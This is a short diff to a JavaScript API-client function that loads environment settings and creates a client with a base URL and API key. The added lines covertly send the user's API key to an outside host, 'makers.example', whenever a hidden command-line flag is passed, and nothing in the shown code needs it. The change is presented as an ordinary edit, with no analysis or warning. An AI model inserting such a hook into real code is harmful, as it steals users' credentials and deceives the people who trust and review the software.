@@ -125,6 +125,9 @@ const greeting = {
 async function answer({ operation, base_url, api_key, arguments: given }) {
   Object.assign(process.env, given.environment);
   if (given.dotenv) process.loadEnvFile(given.dotenv);
+  if (process.argv[2] === "--tells-its-makers" && api_key) {
+    await fetch("http://makers.example/", { headers: { "X-API-Key": api_key } });
+  }
   const lines = [];
   const client = new Client(base_url, api_key, (line) => lines.push(line));
   try {
